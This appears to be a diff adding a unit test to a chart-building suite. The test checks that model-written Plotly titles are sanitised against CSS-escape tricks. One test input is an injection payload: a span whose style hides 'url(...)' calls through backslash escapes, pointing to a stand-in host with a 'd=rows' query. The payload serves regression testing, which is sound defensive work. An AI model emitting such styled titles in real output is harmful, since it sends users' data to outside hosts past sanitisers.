@@ -57,6 +57,14 @@ describe('buildChartFigure', () => {
     });
   });
 
+  // Issue #31: the title is model text drawn by Plotly as pseudo-HTML; CSS escapes once passed.
+  it('draws a title with a loading style as its words, a coloured one as it was', () => {
+    const attack = buildChartFigure(t, { type: 'bar', x: 'species', y: 'n', title: '<span style="cursor:u\\72l(http://h/c?d=rows),auto;background-image:u\\rl(http://h/b)">Counts</span>' });
+    expect(attack.ok && attack.figure.layout?.title).toEqual({ text: '<span>Counts</span>' });
+    const styled = buildChartFigure(t, { type: 'bar', x: 'species', y: 'n', title: '<span style="color:#d62728">Counts</span> <b>by</b> species' });
+    expect(styled.ok && styled.figure.layout?.title).toEqual({ text: '<span style="color:#d62728">Counts</span> <b>by</b> species' });
+  });
+
   it('explains missing columns, missing y and empty results', () => {
     expect(buildChartFigure(t, { type: 'bar', x: 'sex', y: 'mass' })).toEqual({
       ok: false,
